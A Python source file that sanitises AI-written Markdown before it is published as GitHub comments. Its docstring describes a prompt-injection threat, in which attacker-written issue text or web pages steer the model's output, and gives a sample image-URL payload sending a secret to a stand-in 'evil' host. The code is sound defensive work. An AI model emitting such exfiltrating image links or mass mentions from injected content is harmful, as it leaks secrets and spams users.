"""Model-written Markdown, made safe to publish on GitHub. Pure functions.

A model's text (a review, an answer, a supervisor's reason, a step it planned) is shaped by what it read:
issue text, code, test output, a web page — any of which an attacker may write. Published verbatim it could

- load a remote image, which sends data to the image's host in its URL (GitHub fetches through its proxy,
  but the URL, with whatever the model put in it, still reaches that host): `![](https://evil/?d=SECRET)`;
- notify people and teams (`@octo/security-team`), at scale;
- carry raw HTML (`<img>`, `<details>` that swallows the rest of the comment, a fake equitr marker);
- link to `javascript:` or `data:` URLs.

`sanitize` removes each of these, in the text as written and through the encodings Markdown decodes
(character references such as `&#64;`, backslash escapes), then passes the result through `equitr.redact`:

1. Remote images go: `![alt](url)` stays only for an `https` URL on GitHub's own hosts (`github.com`,
   `*.githubusercontent.com`, `github.githubassets.com`) with a plain alt text; any other inline image
   becomes "(image removed)", and any other `![` (reference images, which cannot be checked) is escaped.
   `<img …>` tags become "(image removed)".
2. Mentions are neutralised: a zero-width space after `@` (as Dependabot does); the text reads the same.
   An `@` right after a letter or digit (an e-mail address) is no mention and stays.
3. Raw HTML, comments and autolinks cannot start: a zero-width space after `<` when a tag could follow.
4. `javascript:`, `vbscript:` and `data:` get a zero-width space before the colon.
5. Character references other than `&amp; &lt; &gt; &quot;` are shown as text, so none can decode to any of
   the above.

Fenced code blocks that open at the start of a line of the text are kept byte for byte in block mode:
GitHub renders them as code (no images, mentions or HTML), and a review's ```` ```suggestion ```` must stay
exact. The opening fence is recognised strictly and a closing fence loosely, so whatever GitHub renders as
prose is sanitised here. Block mode assumes the caller puts the text at the start of a line after a blank
line, outside any list, quote or HTML block; everywhere else (a table cell, a list item, the middle of a
line) use `inline=True`, which keeps nothing verbatim.

`sanitize` is idempotent, and linear in the length of its input.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from equitr.redact import redact

ZWSP = "\u200b"
IMAGE_REMOVED = "(image removed)"
GITHUB_IMAGE_HOSTS = frozenset({"github.com", "github.githubassets.com"})
GITHUB_IMAGE_DOMAINS = (".githubusercontent.com",)

_LINES = re.compile(r"[^\r\n]*(?:\r\n|\r|\n|$)")  # CommonMark's line endings only (not U+2028, VT, FF, …)
_FENCE_OPEN = re.compile(r"(`{3,})[^`]*|(~{3,}).*", re.DOTALL)
_KEPT_IMAGE = re.compile(
    r"!\[(?P<alt>[^\[\]\\`<>&\r\n]{0,300})\]"
    r"\([ \t]*(?P<dest>https://(?P<host>[A-Za-z0-9.\-]{1,253})(?:/[A-Za-z0-9\-._~/?#=+%,;!*]{0,2000})?)[ \t]*\)"
)
_IMG_TAG = re.compile(r"<im(?:g|age)\b[^<>]*>?", re.IGNORECASE)
_ENTITY = re.compile(r"&(?!(?:amp|lt|gt|quot);)(?=#[0-9]{1,7};|#[xX][0-9a-fA-F]{1,6};|[A-Za-z][A-Za-z0-9]{1,31};)")
_HTML_START = re.compile(r"<(?=[A-Za-z/!?])")
# GitHub links `@name` unless a letter or digit comes right before it ("user@example.com" stays as it is).
_MENTION = re.compile(r"(?<![A-Za-z0-9])@(?=[A-Za-z0-9])")
_SCHEME = re.compile(r"\b(javascript|vbscript|data)(?=\\?:)", re.IGNORECASE)


def sanitize(text: str, *, inline: bool = False) -> str:
    """`text` (Markdown a model wrote) safe to publish on GitHub; see the module docstring."""
    text = redact(text or "")
    if inline:
        return _prose(text)
    return "".join(part if is_code else _prose(part) for part, is_code in _blocks(text))


def sanitize_inline(text: str) -> str:
    return sanitize(text, inline=True)


def github_image(url: str) -> bool:
    """Whether an image at `url` stays on GitHub (no third party sees the request)."""
    match = re.fullmatch(r"https://([A-Za-z0-9.\-]+)(?:/.*)?", url, re.DOTALL)
    if match is None:
        return False
    host = match.group(1).lower()
    return host in GITHUB_IMAGE_HOSTS or any(host.endswith(d) and len(host) > len(d) for d in GITHUB_IMAGE_DOMAINS)


# -- fenced code ---------------------------------------------------------------------------------------------


def _blocks(text: str) -> Iterator[tuple[str, bool]]:
    """The text as (part, is fenced code) in order; the parts join back to `text`."""
    prose: list[str] = []
    code: list[str] = []
    fence = ""  # the open fence's character times its length, or "" outside code
    for match in _LINES.finditer(text):
        line = match.group()
        if not line:
            break
        content = line.rstrip("\r\n")
        if fence:
            code.append(line)
            closing = content.strip()
            if len(closing) >= len(fence) and closing == fence[0] * len(closing):
                yield "".join(code), True
                code, fence = [], ""
            continue
        opening = _FENCE_OPEN.fullmatch(content)
        if opening is None:
            prose.append(line)
            continue
        if prose:
            yield "".join(prose), False
            prose = []
        fence = opening.group(1) or opening.group(2)
        code.append(line)
    if prose:
        yield "".join(prose), False
    if code:
        yield "".join(code), True


# -- prose ---------------------------------------------------------------------------------------------------


def _prose(text: str) -> str:
    text = _images(_IMG_TAG.sub(IMAGE_REMOVED, text))
    text = _ENTITY.sub("&amp;", text)
    text = _HTML_START.sub("<" + ZWSP, text)
    text = _MENTION.sub("@" + ZWSP, text)
    return _SCHEME.sub(lambda m: m.group(1) + ZWSP, text)


def _images(text: str) -> str:
    """Every `![` either a GitHub-hosted inline image, "(image removed)", or escaped."""
    if "![" not in text:
        return text
    brackets = _pairs(text, "[", "]")
    parens = _pairs(text, "(", ")")
    out: list[str] = []
    pos = 0
    while (at := text.find("![", pos)) != -1:
        out.append(text[pos:at])
        kept = _KEPT_IMAGE.match(text, at)
        if kept is not None and github_image(kept.group("dest")):
            out.append(f"![{kept.group('alt')}]({kept.group('dest')})")
            pos = kept.end()
            continue
        close = brackets.get(at + 1)
        if close is not None and close + 1 < len(text) and text[close + 1] == "(" and close + 1 in parens:
            out.append(IMAGE_REMOVED)  # an inline image to anywhere else: gone, URL and all
            pos = parens[close + 1] + 1
        else:
            out.append("!\\[")  # a reference image (or not an image at all): never one now
            pos = at + 2
    out.append(text[pos:])
    return "".join(out)


def _pairs(text: str, opening: str, closing: str) -> dict[int, int]:
    """Index of each `opening` → its matching `closing` (backslash escapes honoured); one linear pass."""
    stack: list[int] = []
    pairs: dict[int, int] = {}
    for match in re.finditer(r"\\.|[" + re.escape(opening + closing) + "]", text, re.DOTALL):
        if match.group() == opening:
            stack.append(match.start())
        elif match.group() == closing and stack:
            pairs[stack.pop()] = match.start()
    return pairs


def publishable(body: str) -> str:
    """The last pass over a whole body equitr composed — its own Markdown and HTML around model text that
    `sanitize` already cleaned — just before it is published: redacted, and no image that leaves GitHub,
    whatever a template let through. (Mentions and HTML of the template itself are equitr's own.)"""
    text = redact(body or "")
    return "".join(part if code else _images(_IMG_TAG.sub(IMAGE_REMOVED, part)) for part, code in _blocks(text))


# -- text from exceptions -------------------------------------------------------------------------------

_MAX_PUBLIC = 800  # a server that echoes a whole page back must not flood the comment
_TRACEBACK = re.compile(
    r"Traceback \(most recent call last\):[^\n]*\n"  # the header
    r"(?:[ \t]+[^\n]*(?:\n|$)|\n)*"  # indented frame and source lines
    # the final line, "ValueError: …" or "pkg.CustomFailure: …"
    r"(?:[A-Za-z_][\w.]*(?::[ \t][^\n]*|(?:Error|Exception|Exit|Interrupt|Warning)\b[^\n]*)(?:\n|$))?",
)
_CHAINED = re.compile(
    r"^[ \t]*(?:During handling of the above exception, another exception occurred:|"
    r"The above exception was the direct cause of the following exception:)[ \t]*$",
    re.MULTILINE,
)
# A stack frame anywhere in a line ("see File "/x.py", line 3, in f"), with the source line printed under it.
_FRAME = re.compile(r'[ \t]*File "[^"\n]*", line \d+[^\n]*\n?(?:[ \t]{4,}[^\n]*\n?)?')
_ABS_SOURCE = re.compile(r"(?:[A-Za-z]:)?(?:[\\/][\w.@+~-]+)+[\\/]([\w.-]+\.(?:py|pyc|pyi|so))\b")
# Where the operator's servers live (a model server, GitHub Enterprise, a proxy) is not for a public comment;
# only well-known public pages keep their address. " at URL" goes with its URL: "Ollama at http://…" → "Ollama".
_PUBLIC_HOSTS = frozenset(
    {
        "github.com", "docs.github.com", "www.githubstatus.com", "githubstatus.com", "api.github.com",
        "platform.openai.com", "api.openai.com", "console.anthropic.com", "api.anthropic.com", "ollama.com",
    }
)  # fmt: skip
_URL = re.compile(
    r"(?P<at>\s+at\s+)?\b[A-Za-z][A-Za-z0-9+.-]*://(?P<host>[^\s/:?#'\"<>()\[\]@]+@)?(?P<name>\[[^\]\s]*\]|[^\s/:?#'\"<>()\[\]]*)[^\s'\"<>()\[\]]*"
)
_ADDRESS = re.compile(
    r"\b(?:localhost|\d{1,3}(?:\.\d{1,3}){3})(?::\d{1,5})?\b|\[[0-9A-Fa-f:.]*:[0-9A-Fa-f:.]*\](?::\d{1,5})?"
    r"|(?<=\bhost )[^\s:]+:\d{1,5}\b",
    re.IGNORECASE,
)
HIDDEN = "(address hidden)"


def _hide_url(match: re.Match[str]) -> str:
    url = match[0]
    trail = url[len(url.rstrip(".,:;!?")) :]  # the sentence's punctuation, not the URL's
    if match["host"] is None and match["name"].lower().rstrip(".,:;!?") in _PUBLIC_HOSTS:
        return url
    return ("" if match["at"] else HIDDEN) + trail


def hide_addresses(text: str) -> str:
    """`text` without the URLs, IP addresses and host:port pairs of non-public servers."""
    return _ADDRESS.sub(HIDDEN, _URL.sub(_hide_url, text))


def public_text(text: str) -> str:
    """Text from an exception or a job's reason made fit for a public comment (an error comment, a status
    line): redacted, no traceback, no stack frame, no absolute source path, no internal address, no @mention
    that would notify someone, no HTML comment that could fake equitr's markers; at most 800 characters."""
    text = redact(text)  # before anything is cut: half a secret matches neither its value nor its pattern
    text = hide_addresses(text)
    text = _TRACEBACK.sub("", text)
    text = _CHAINED.sub("", text)
    text = _FRAME.sub("", text)
    text = _ABS_SOURCE.sub(r"\1", text)
    text = re.sub(r"\s*\n\s*", " ", text).strip()
    text = sanitize_inline(text)  # model and provider text: no mention, image, HTML or fake marker
    return text if len(text) <= _MAX_PUBLIC else text[: _MAX_PUBLIC - 1] + "…"
